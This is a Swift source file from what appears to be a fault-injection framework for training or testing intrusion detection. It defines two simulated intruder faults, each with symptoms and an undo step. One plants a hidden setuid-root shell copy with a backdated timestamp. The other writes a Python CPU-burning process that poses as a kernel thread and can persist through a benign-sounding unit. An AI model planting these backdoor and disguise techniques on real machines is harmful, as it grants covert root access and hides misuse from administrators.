import Scenario

/// Programs that somebody leaves on a machine that is not theirs.
enum IntruderProgramFaults {
    static let all: [FaultKind] = [shell, miner]

    static let shell = FaultKind(
        "intruder.shell",
        summary: "Leaves a shell that runs as root for everybody.",
        symptom: "find -perm -4000 shows a program that belongs to no package; with -p it is root.",
        reboot: "Stays.",
        arguments: [.init("path", .path, default: "/usr/lib/.font-cache", "Where it lies; it must not be there.")],
        examples: [.init(on: "web", [:])]
    ) { arguments in
        FaultPlan(
            ["file": arguments.text("path")],
            inject: #"""
                [ ! -e "$file" ] || fail "$file is there already"
                save "$file"
                put "$file" 4755 <"$(readlink -f /bin/sh)"
                touch -r /usr/bin/passwd "$file"
                """#,
            undo: #"restore "$file""#)
    }

    static let miner = FaultKind(
        "intruder.miner",
        summary: "Starts a program that uses a processor for a stranger and calls itself a kernel thread.",
        symptom: "A processor is busy; ps shows [kworker/...] with a parent and a program, which no kernel thread has.",
        needs: ["python3"],
        reboot: "Comes back with a unit; without one it is gone.",
        arguments: [
            .init(
                "name", .string(pattern: "[a-z][a-z0-9/:+_-]{2,13}", explanation: "a kernel thread's name"),
                default: "kworker/1:2", "The name that it shows."),
            .init(
                "share", .int(1...100), default: "60", "How much of a processor it uses, of a hundred."),
        ] + Program.fields(default: "/usr/lib/.libgcc/kdevtmp"),
        examples: [.init(on: "web", [:]), .init(on: "web", ["unit": "dbus-broker-cache"])]
    ) { arguments throws(FaultError) in
        let text = #"""
            import ctypes
            import hashlib
            import os
            import sys
            import time

            NAME = \#(Python.literal(arguments.text("name")))
            SHARE = \#(arguments.number("share")) / 100

            if sys.argv[1:] != ["]"]:
                os.execv("/proc/self/exe", ["[" + NAME, os.path.abspath(__file__), "]"])
            ctypes.CDLL(None).prctl(15, NAME.encode(), 0, 0, 0)
            block = bytes(80)
            while True:
                end = time.monotonic() + SHARE / 10
                while time.monotonic() < end:
                    block = hashlib.sha256(block).digest()
                time.sleep((1 - SHARE) / 10)
            """#
        return try Program(arguments, about: "Cache of the message bus", text: text).plan
    }
}
